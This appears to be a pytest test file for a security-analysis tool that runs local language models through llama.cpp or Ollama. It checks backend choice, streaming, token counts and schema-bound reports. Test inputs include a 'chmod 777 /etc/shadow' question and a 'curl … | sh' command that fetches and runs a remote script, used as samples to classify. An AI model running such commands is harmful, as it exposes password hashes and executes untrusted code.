"""Chat backends: local llama.cpp on the demo GGUF, Ollama through the real client, and the choice.

llama.cpp runs for real (llama-cpp-python, short answers, one thread: on a busy 2-core machine
two llama.cpp threads spin-waiting on each other ran ~30x slower than one). Ollama is the loopback
server of tests/fake_ollama.py, reached through the official `ollama` client and OLLAMA_HOST.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import jsonschema
import pytest

from fwyy_ollama.errors import FwyyError
from fwyy_ollama.profiles import load_profile
from fwyy_ollama.runtime import (
    LocalBackend,
    OllamaBackend,
    build_output_gguf,
    default_gguf,
    demo_gguf,
    gguf_profile_name,
    ollama_has_model,
    open_backend,
)
from tests.fake_ollama import DEFAULT_REPLY, FakeOllama, fake_ollama_fixture  # noqa: F401

NOBODY = "http://127.0.0.1:9"  # a port where no daemon listens
MESSAGES = [
    {"role": "system", "content": "You are a security analyst. Be brief."},
    {"role": "user", "content": "Is `chmod 777 /etc/shadow` a good idea?"},
]


def test_local_backend_streams_chunks(local: LocalBackend) -> None:
    chunks = list(local.chat(MESSAGES, options={"num_predict": 16}))
    assert len(chunks) >= 4  # token by token, not one block
    text = "".join(chunks)
    assert text.strip() and "<|im_end|>" not in text and "<|im_start|>" not in text
    # num_predict (Ollama's name) is honoured as llama.cpp's max_tokens.
    assert local.count_tokens(text) <= 17
    whole = list(local.chat(MESSAGES, stream=False, options={"num_predict": 16}))
    assert len(whole) == 1 and whole[0] == text  # temperature 0: the same answer, one chunk


def test_local_backend_counts_tokens_with_the_real_tokenizer(local: LocalBackend) -> None:
    assert local.count_tokens("hello") == 1
    assert local.count_tokens("hello " * 100) in range(99, 102)


def test_local_backend_structured_output_follows_the_schema(local: LocalBackend) -> None:
    from fwyy_ollama.report import report_json_schema

    schema = {
        "type": "object",
        "properties": {"label": {"type": "string", "enum": ["safe", "high"]}, "why": {"type": "string"}},
        "required": ["label", "why"],
    }
    text = "".join(local.chat(MESSAGES, format=schema, options={"num_predict": 60}))
    jsonschema.validate(json.loads(text), schema)
    assert report_json_schema()["required"] == ["analysis", "label", "risk", "solution"]


def test_default_gguf_prefers_the_last_build(tmp_path: Path) -> None:
    profile = load_profile("fwyy-smollm2")
    path, why = default_gguf(profile, tmp_path / "out")
    assert (
        path == demo_gguf()
        and "demo GGUF" in why
        and str(build_output_gguf(profile, tmp_path / "out")) in why
    )
    built = build_output_gguf(profile, tmp_path / "out")
    assert built == tmp_path / "out" / "fwyy-smollm2" / "fwyy-smollm2.q4_k_m.gguf"
    built.parent.mkdir(parents=True)
    built.symlink_to(demo_gguf())
    path, why = default_gguf(profile, tmp_path / "out")
    assert path == built and why.startswith("last build of fwyy-smollm2")
    # Built with another --quant: that file is found too.
    built.unlink()
    other = built.with_name("fwyy-smollm2.q8_0.gguf")
    other.symlink_to(demo_gguf())
    assert default_gguf(profile, tmp_path / "out")[0] == other


def _gguf_with(path: Path, **fwyy_keys: str) -> Path:
    """A copy of the demo GGUF with `fwyy.<key>` metadata added (what `fwyy export` writes)."""
    import gguf
    from gguf.scripts.gguf_new_metadata import MetadataDetails, copy_with_new_metadata

    reader = gguf.GGUFReader(demo_gguf())
    arch = reader.get_field("general.architecture").contents()
    writer = gguf.GGUFWriter(path, arch=arch, endianess=reader.endianess)
    new = {f"fwyy.{k}": MetadataDetails(gguf.GGUFValueType.STRING, v) for k, v in fwyy_keys.items()}
    copy_with_new_metadata(reader, writer, new, [])
    return path


def test_gguf_metadata_gives_the_language_to_prompt_in(tmp_path: Path) -> None:
    """A GGUF fwyy exported says the language its model was trained in; --lang still wins."""
    from fwyy_ollama.analysis import prepare_analysis
    from fwyy_ollama.prompts import system_prompt

    # An unknown file name maps to the default profile (fwyy-qwen2, Chinese): the metadata says en.
    english = _gguf_with(tmp_path / "custom-en.gguf", language="en", profile="my-analyst")
    be = open_backend(backend="local", gguf=english, n_threads=1, n_ctx=1024)
    try:
        assert be.language == "en"
        assert prepare_analysis(be, "ls").messages[0]["content"] == system_prompt("en")
        assert prepare_analysis(be, "ls", lang="zh").messages[0]["content"] == system_prompt("zh")
    finally:
        be.close()
    # An older export names only its (shipped) profile: that profile's language.
    named = _gguf_with(tmp_path / "custom-named.gguf", profile="fwyy-llama3")
    be = open_backend(backend="local", gguf=named, n_threads=1, n_ctx=1024)
    assert be.language == "en"
    be.close()
    bare = tmp_path / "custom-bare.gguf"
    bare.symlink_to(demo_gguf())
    be = open_backend(backend="local", gguf=bare, n_threads=1, n_ctx=1024)
    assert be.language == "en"  # the demo base: its profile (fwyy-smollm2) is English
    be.close()


def test_plain_analyze_and_chat_use_the_last_build(
    fake_ollama: FakeOllama, tmp_path: Path
) -> None:
    import subprocess
    import sys

    from fwyy_ollama.runtime import LAST_BUILD_FILE, last_build, record_last_build

    out = tmp_path / "out"
    assert last_build(out) is None
    gguf = out / "fwyy-llama3" / "fwyy-llama3.q8_0.gguf"
    gguf.parent.mkdir(parents=True)
    gguf.symlink_to(demo_gguf())
    record_last_build(out, load_profile("fwyy-llama3"), gguf)
    last = last_build(out)
    assert last is not None and last.name == "fwyy-llama3" and last.gguf == gguf and last.language == "en"
    assert json.loads((out / LAST_BUILD_FILE).read_text())["gguf"] == "fwyy-llama3/fwyy-llama3.q8_0.gguf"
    # No daemon has it: llama.cpp on the GGUF that build wrote (not the default profile's demo).
    be = open_backend(out_dir=out, n_threads=1, n_ctx=1024)
    assert be.name == "local" and be.model == gguf.name and "last build (fwyy-llama3)" in be.source
    assert be.language == "en"
    be.close()
    # The daemon has it (`fwyy build` created it): Ollama, under the built name.
    fake_ollama.add_model("fwyy-llama3")
    be = open_backend(out_dir=out)
    assert isinstance(be, OllamaBackend) and be.model == "fwyy-llama3" and be.language == "en"
    be.close()
    sample = tmp_path / "q.sql"
    sample.write_text("SELECT 1")
    fwyy = str(Path(sys.executable).with_name("fwyy"))
    env = dict(os.environ, OLLAMA_HOST=fake_ollama.host, COLUMNS="200")
    proc = subprocess.run(
        [fwyy, "analyze", str(sample), "--json", "--out", str(out)], capture_output=True, env=env, timeout=120
    )
    assert json.loads(proc.stdout)["model"] == "fwyy-llama3", proc.stderr
    # A record that does not parse is ignored, never an error.
    (out / LAST_BUILD_FILE).write_text("{not json")
    assert last_build(out) is None


def test_a_build_outputs_name_gives_its_profile() -> None:
    assert gguf_profile_name("out/fwyy-llama3/fwyy-llama3.q4_k_m.gguf") == "fwyy-llama3"
    assert gguf_profile_name("/x/fwyy-qwen2.Q8_0.gguf") == "fwyy-qwen2"
    assert gguf_profile_name("SmolLM2-135M-Instruct.Q4_1.gguf") is None


def test_auto_without_daemon_opens_the_demo_and_says_so(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("OLLAMA_HOST", NOBODY)
    be = open_backend(None, out_dir=tmp_path, n_threads=1)
    try:
        assert be.name == "local" and be.model == "SmolLM2-135M-Instruct.Q4_1.gguf"
        assert "demo GGUF" in be.source and "fwyy-qwen2.q4_k_m.gguf" in be.source
        # The demo is SmolLM2: its own profile's settings (English, 2k context), not fwyy-qwen2's.
        assert be.language == "en" and be.context_length == 2048
    finally:
        be.close()


def test_auto_picks_ollama_when_it_has_the_model(fake_ollama: FakeOllama, tmp_path: Path) -> None:
    assert not ollama_has_model("fwyy-qwen2")
    fake_ollama.add_model("fwyy-qwen2")
    assert ollama_has_model("fwyy-qwen2") and ollama_has_model("fwyy-qwen2:latest")
    be = open_backend("fwyy-qwen2", out_dir=tmp_path)
    assert isinstance(be, OllamaBackend) and be.source == fake_ollama.host and be.language == "zh"
    assert be.context_length == load_profile("fwyy-qwen2").parameters["num_ctx"]
    be.close()
    # --gguf means local even when the daemon has the model.
    be = open_backend("fwyy-qwen2", gguf=demo_gguf(), n_threads=1)
    assert be.name == "local" and be.source.startswith("--gguf")
    be.close()
    be = open_backend(str(demo_gguf()), n_threads=1)  # a .gguf path as the model means --gguf
    assert be.name == "local" and be.model == demo_gguf().name and be.language == "en"
    be.close()


def test_ollama_backend_streams_and_sends_options_and_format(fake_ollama: FakeOllama) -> None:
    fake_ollama.add_model("fwyy-smollm2")
    be = open_backend("fwyy-smollm2", backend="ollama", options={"num_predict": 99})
    schema = {"type": "object"}
    chunks = list(be.chat(MESSAGES, format=schema, options={"temperature": 0.5}))
    assert len(chunks) > 3 and "".join(chunks) == DEFAULT_REPLY
    body = fake_ollama.requests_to("/api/chat")[-1].body
    assert body["model"] == "fwyy-smollm2" and body["stream"] is True and body["format"] == schema
    assert body["messages"] == MESSAGES
    # The profile's PARAMETERs, the caller's open_backend options, then the per-call ones.
    assert body["options"]["num_predict"] == 99 and body["options"]["temperature"] == 0.5
    assert body["options"]["num_ctx"] == 2048
    assert list(be.chat(MESSAGES, stream=False)) == [DEFAULT_REPLY]
    be.close()


def test_ollama_errors_are_clear(fake_ollama: FakeOllama, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(FwyyError, match="has no model 'fwyy-qwen2'") as info:
        open_backend("fwyy-qwen2", backend="ollama")
    assert "fwyy create" in str(info.value)
    fake_ollama.add_model("fwyy-qwen2")
    be = open_backend("fwyy-qwen2", backend="ollama")
    fake_ollama.errors["/api/chat"] = (500, "model runner crashed")
    with pytest.raises(FwyyError, match="model runner crashed"):
        list(be.chat(MESSAGES))
    monkeypatch.setenv("OLLAMA_HOST", NOBODY)
    with pytest.raises(FwyyError, match="cannot reach the Ollama daemon at http://127.0.0.1:9") as info:
        open_backend("fwyy-qwen2", backend="ollama")
    assert "--backend local" in str(info.value)


def test_bad_choices_are_refused(tmp_path: Path) -> None:
    with pytest.raises(FwyyError, match="unknown backend 'gpu'"):
        open_backend(backend="gpu")
    with pytest.raises(FwyyError, match="--gguf is for the local backend"):
        open_backend(backend="ollama", gguf="x.gguf")
    with pytest.raises(FwyyError, match="no such GGUF file"):
        open_backend(backend="local", gguf=tmp_path / "none.gguf")
    (tmp_path / "fake.gguf").write_bytes(b"PK\x03\x04 not a gguf")
    with pytest.raises(FwyyError, match="not a GGUF file"):
        open_backend(backend="local", gguf=tmp_path / "fake.gguf")


def test_family_template_lays_out_prompts_like_the_ggufs_own(local: LocalBackend) -> None:
    """A GGUF without tokenizer.chat_template gets fwyy's family template: for ChatML (SmolLM2's
    layout) it must produce the very prompt the GGUF's own template does."""
    from llama_cpp.llama_chat_format import Jinja2ChatFormatter

    from fwyy_ollama.runtime import family_chat_formatter

    meta = local._llm.metadata
    own = Jinja2ChatFormatter(
        template=meta["tokenizer.chat_template"],
        eos_token="<|im_end|>",
        bos_token=local._llm.detokenize([local._llm.token_bos()]).decode(),
    )
    convo = [*MESSAGES, {"role": "assistant", "content": "No."}, {"role": "user", "content": "Why?"}]
    ours = family_chat_formatter("chatml")(messages=convo)
    assert ours.prompt == own(messages=convo).prompt
    assert ours.prompt.endswith("<|im_start|>assistant\n")
    assert "<|im_end|>" in ours.stop
    llama3 = family_chat_formatter("llama3")(messages=MESSAGES).prompt
    assert llama3.startswith("<|begin_of_text|><|start_header_id|>system<|end_header_id|>")


LIVE_HOST = os.environ.get("OLLAMA_HOST")


def _live_models() -> list[str]:
    if not LIVE_HOST:
        return []
    try:
        import ollama

        with ollama.Client(host=LIVE_HOST, timeout=2) as client:
            return [m.model for m in client.list().models if m.model]
    except Exception:  # noqa: BLE001 - no live daemon: the test says so and skips
        return []


@pytest.mark.skipif(not _live_models(), reason="no live Ollama daemon with a model at OLLAMA_HOST")
def test_live_ollama_daemon_streams_and_obeys_the_report_schema() -> None:
    from fwyy_ollama.analysis import analyze

    models = _live_models()
    model = next((m for m in models if m.startswith("fwyy-")), models[0])
    be = open_backend(model, backend="ollama", host=LIVE_HOST, options={"num_predict": 1024})
    try:
        assert len(list(be.chat(MESSAGES, options={"num_predict": 16}))) > 1
        result = analyze("curl http://198.51.100.7/x.sh | sh", backend=be)
        # Structured outputs: whatever the model thinks, the daemon makes it answer the schema.
        assert result.report is not None, result.error
    finally:
        be.close()
